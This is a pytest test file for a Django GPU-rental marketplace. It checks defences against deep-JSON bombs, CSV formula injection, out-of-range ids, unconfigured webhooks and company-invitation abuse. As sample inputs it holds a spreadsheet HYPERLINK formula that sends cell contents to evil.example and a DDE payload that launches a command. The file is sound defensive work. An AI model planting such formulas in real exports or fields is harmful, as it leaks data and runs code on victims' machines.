"""Hostile input at the edges (issue 13): deep JSON, spreadsheet formulas in
CSV downloads, out-of-range numbers and ids, webhooks nobody configured, and
company invitations the invitee accepts."""

import csv
import io
import sys
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse

from accounts import services as account_services
from accounts.models import CompanyInvitation, OwnerCompany, OwnerMembership
from accounts.selectors import user_roles
from core.downloads import csv_cell
from core.parsers import JSON_MAX_DEPTH, json_depth_exceeds
from marketplace.models import Booking, Listing, Server, WebhookEvent
from tests.api_errors import error_detail, field_errors
from tests.factories import UserFactory, make_listing, make_owner, next_hour

pytestmark = pytest.mark.django_db

DEEP = b"[" * 100_000 + b"]" * 100_000


def _table(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


# --- 10: deep JSON -------------------------------------------------------------------


def test_the_recursion_limit_is_back_to_pythons_default_after_setup():
    # py_ecc raised it to 100,000 while the apps loaded; hypothesis and py-evm
    # may raise it again inside a test run, never to that.
    assert sys.getrecursionlimit() < 100_000


def test_the_depth_scan_counts_brackets_outside_strings_only():
    assert json_depth_exceeds(b"[" * (JSON_MAX_DEPTH + 1)) is True
    assert json_depth_exceeds(b"[" * JSON_MAX_DEPTH + b"]" * JSON_MAX_DEPTH) is False
    assert json_depth_exceeds(b'{"a": "' + b"[" * 1000 + b'\\"[[["}') is False
    assert json_depth_exceeds(b'[{"a": [1, 2, {"b": []}]}]', limit=5) is False
    assert json_depth_exceeds(b'[{"a": [1, 2, {"b": [[]]}]}]', limit=5) is True


def test_deeply_nested_json_to_the_token_endpoint_is_a_400(client):
    # given 100,000 nested brackets (200 KB), anonymous
    # when posted to the token endpoint
    response = client.post(reverse("api:token"), data=DEEP, content_type="application/json")
    # then a 400 that says why, and this process is still here to read it
    assert response.status_code == 400
    assert error_detail(response) == f"JSON parse error - nested deeper than {JSON_MAX_DEPTH} levels."


def test_deeply_nested_json_to_an_authenticated_endpoint_is_a_400(owner, api_as):
    response = api_as(owner).post(reverse("api:server-list"), data=DEEP, content_type="application/json")
    assert response.status_code == 400
    assert error_detail(response) == f"JSON parse error - nested deeper than {JSON_MAX_DEPTH} levels."
    assert not Server.objects.exists()


def test_ordinary_json_still_parses_on_the_token_endpoint(owner, client):
    response = client.post(
        reverse("api:token"),
        data={"username": owner.email, "password": "correct-horse-battery-9"},
        content_type="application/json",
    )
    assert response.status_code == 200 and response.json()["token"]


# --- 14: CSV formula injection --------------------------------------------------------


def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "a=b")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "'\rx",
        "ok",
        "a=b",
    ]
    assert [csv_cell(v) for v in (-5, Decimal("-1.50"), None)] == [-5, Decimal("-1.50"), None]


def test_a_formula_company_name_reaches_the_loan_tape_as_text(loan, lender, owner, client_as):
    # given a company whose name is a spreadsheet formula
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    company = owner.owner_membership.company
    type(company).objects.filter(pk=company.pk).update(name=formula)
    # when a lender downloads the loan tape
    tape = _table(client_as(lender).get(reverse("financing:loan_tape")))
    # then the cell starts with a quote: text, not a formula
    assert [row["owner"] for row in tape] == ["'" + formula]


def test_a_formula_hostname_reaches_the_earnings_csv_as_text(owner, client_as):
    listing = make_listing(owner)
    Server.objects.filter(pk=listing.server_id).update(hostname="@cmd|' /C calc'!A0")
    rows = _table(client_as(owner).get(reverse("marketplace:owner_earnings_csv"), {"days": 7}))
    assert [row["server"] for row in rows] == ["'@cmd|' /C calc'!A0"]


# --- 15: bad input is a 4xx, not a 500 ------------------------------------------------


def test_a_non_integer_server_id_is_a_404(owner, api_as):
    api = api_as(owner)
    assert api.get("/api/v1/inventory/servers/abc/").status_code == 404
    assert api.get("/api/v1/inventory/gpus/abc/").status_code == 404
    assert api.get("/api/v1/owner/listings/abc/").status_code == 404
    assert api.get("/api/v1/listings/abc/").status_code == 404


def test_a_malformed_cluster_or_job_id_is_a_404(owner, renter, api_as):
    assert api_as(owner).get("/api/v1/owner/clusters/abc/").status_code == 404
    assert api_as(owner).post("/api/v1/owner/clusters/abc/sync/").status_code == 404
    assert api_as(renter).get("/api/v1/jobs/not-a-uuid/").status_code == 404
    assert api_as(renter).get("/api/v1/jobs/00000000-0000-0000-0000-000000000000/").status_code == 404


def test_an_out_of_range_page_is_a_404(owner, api_as, client):
    make_listing(owner)
    huge = "1000000000000000000"
    assert client.get(reverse("api:search"), {"page": huge}).status_code == 404
    assert client.get(reverse("api:listing-list"), {"page": huge}).status_code == 404
    assert api_as(owner).get(reverse("api:server-list"), {"page": huge}).status_code == 404


def test_out_of_range_integers_are_a_400_with_a_field_message(owner, api_as):
    listing = make_listing(owner)
    api = api_as(owner)
    before = Listing.objects.values().get(pk=listing.pk)
    # when the owner sets a duration past the column's range
    response = api.put(
        reverse("api:owner-listing-detail", args=[listing.pk]),
        {"price_per_gpu_hour": "2.00", "min_duration_minutes": 60, "max_duration_minutes": 1099511627776},
        format="json",
    )
    # then a field message, and the listing is unchanged
    assert response.status_code == 400
    assert list(field_errors(response)) == ["max_duration_minutes"]
    assert Listing.objects.values().get(pk=listing.pk) == before
    # and a server with a core count past the column's range is refused the same way
    response = api.post(
        reverse("api:server-list"),
        {
            "hostname": "big-1",
            "region": "us-east",
            "cpu_milli": 2**40,
            "memory_mib": 2**70,
            "gpu_model": "H100 80GB",
            "gpu_count": 1,
        },
        format="json",
    )
    assert response.status_code == 400
    assert sorted(field_errors(response)) == ["cpu_milli", "memory_mib"]


def test_an_out_of_range_listing_id_in_a_booking_is_a_400(owner, renter, api_as):
    make_listing(owner)
    response = api_as(renter).post(
        reverse("api:booking-list"),
        {
            "listing": 2**70,
            "gpu_count": 1,
            "start": next_hour(2).isoformat(),
            "end": (next_hour(2) + timedelta(hours=1)).isoformat(),
        },
        format="json",
    )
    assert response.status_code == 400
    assert list(field_errors(response)) == ["listing"]
    assert not Booking.objects.exists()


def test_the_stripe_webhook_is_a_404_when_stripe_is_not_configured(client, settings):
    # given the offline gateway and no Stripe keys (the embedded default)
    settings.PAYMENT_GATEWAY = "offline"
    settings.STRIPE_SECRET_KEY = ""
    # when something posts a Stripe event
    response = client.post(
        reverse("marketplace:stripe_webhook"), data=b'{"id": "evt_1"}', content_type="application/json"
    )
    # then a 404 saying so, and nothing stored
    assert response.status_code == 404
    assert response.json() == {"error": "Stripe webhooks are not configured here."}
    assert not WebhookEvent.objects.exists()


# --- 12/13: company invitations and membership levels -----------------------------------


def _invite(client, email: str):
    return client.post(reverse("accounts:company"), {"action": "member", "member-email": email}, follow=True)


def _member_of(owner_user, client_as):
    """A user who accepted an invitation into ``owner_user``'s company: a plain member."""
    member = UserFactory()
    _invite(client_as(owner_user), member.email)
    invitation = CompanyInvitation.objects.get(email=member.email)
    client_as(member).post(reverse("accounts:invitation_respond", args=[invitation.token]), {"action": "accept"})
    return member


def test_an_owner_cannot_enrol_a_registered_user_without_consent(owner, client_as):
    # given a registered user who has not been asked
    victim = UserFactory()
    # when the owner "adds" them
    response = _invite(client_as(owner), victim.email)
    # then an invitation waits for them; they are in no company and can still create their own
    assert response.status_code == 200
    assert not OwnerMembership.objects.filter(user=victim).exists()
    assert "owner" not in user_roles(victim)
    assert list(CompanyInvitation.objects.values_list("email", "status")) == [(victim.email, "pending")]
    account_services.owner_company_create(user=victim, name="Victim's Own Compute")
    assert victim.owner_membership.level == OwnerMembership.Level.ADMIN


def test_the_invitation_answer_does_not_tell_whether_an_account_exists(
    owner, client_as, mailoutbox, django_capture_on_commit_callbacks
):
    registered = UserFactory(email="known@example.com")
    client = client_as(owner)
    # when the owner invites a registered address, then an unknown one
    with django_capture_on_commit_callbacks(execute=True):
        known = _invite(client, registered.email)
        unknown = _invite(client, "nobody@example.com")

    # then both get the same answer but for the address, and both addresses get an e-mail
    def said(response, email):
        return [str(m).replace(email, "EMAIL") for m in response.context["messages"]]

    assert known.status_code == unknown.status_code == 200
    assert said(known, registered.email) == said(unknown, "nobody@example.com") == ["Invitation sent to EMAIL."]
    assert sorted(m.to[0] for m in mailoutbox) == ["known@example.com", "nobody@example.com"]
    # and a member of another company is answered the same way
    other = make_owner()
    answer = _invite(client, other.email)
    assert answer.status_code == 200 and "already" not in answer.content.decode()


def test_accepting_the_invitation_creates_the_membership(owner, client_as):
    invitee = UserFactory()
    _invite(client_as(owner), invitee.email)
    invitation = CompanyInvitation.objects.get()
    # the invitee sees it on their account page
    page = client_as(invitee).get(reverse("dashboard"))
    assert page.status_code == 200 and owner.owner_membership.company.name in page.content.decode()
    # someone else holding the token cannot use it
    stranger = UserFactory()
    url = reverse("accounts:invitation_respond", args=[invitation.token])
    assert client_as(stranger).post(url, {"action": "accept"}).status_code == 400
    assert not OwnerMembership.objects.filter(user=stranger).exists()
    # when the invitee accepts
    response = client_as(invitee).post(url, {"action": "accept"})
    # then they are a plain member of the company, with the owner role
    assert response.status_code == 302
    membership = OwnerMembership.objects.get(user=invitee)
    assert (membership.company, membership.level) == (owner.owner_membership.company, OwnerMembership.Level.MEMBER)
    assert "owner" in user_roles(invitee)
    invitation.refresh_from_db()
    assert invitation.status == CompanyInvitation.Status.ACCEPTED
    # and the token is spent
    assert client_as(invitee).post(url, {"action": "accept"}).status_code == 400
    assert OwnerMembership.objects.filter(user=invitee).count() == 1


def test_declining_the_invitation_creates_nothing(owner, client_as):
    invitee = UserFactory()
    _invite(client_as(owner), invitee.email)
    invitation = CompanyInvitation.objects.get()
    url = reverse("accounts:invitation_respond", args=[invitation.token])
    assert client_as(invitee).post(url, {"action": "decline"}).status_code == 302
    assert not OwnerMembership.objects.filter(user=invitee).exists()
    invitation.refresh_from_db()
    assert invitation.status == CompanyInvitation.Status.DECLINED


PAYOUT = {
    "name": "Hijacked Compute",
    "payout_account_holder": "Mallory",
    "payout_iban": "GB33BUKB20201555555555",
    "payout_bic": "BUKBGB22",
    "payout_wallet_address": "",
}


def test_a_plain_member_cannot_change_the_payout_account_or_invite(owner, client_as):
    company = owner.owner_membership.company
    member = _member_of(owner, client_as)
    before = OwnerCompany.objects.values().get(pk=company.pk)
    # when the member posts new payout details
    response = client_as(member).post(reverse("accounts:company"), PAYOUT)
    # then 403 and the payout account is unchanged
    assert response.status_code == 403
    assert OwnerCompany.objects.values().get(pk=company.pk) == before
    # and the member cannot invite either
    assert _invite(client_as(member), "friend@example.com").status_code == 403
    assert not CompanyInvitation.objects.filter(email="friend@example.com").exists()


def test_the_admin_member_changes_the_payout_account(owner, client_as):
    company = owner.owner_membership.company
    _member_of(owner, client_as)
    response = client_as(owner).post(reverse("accounts:company"), PAYOUT)
    assert response.status_code == 302
    company.refresh_from_db()
    assert (company.name, company.payout_account_holder, company.payout_iban) == (
        "Hijacked Compute",
        "Mallory",
        "GB33BUKB20201555555555",
    )
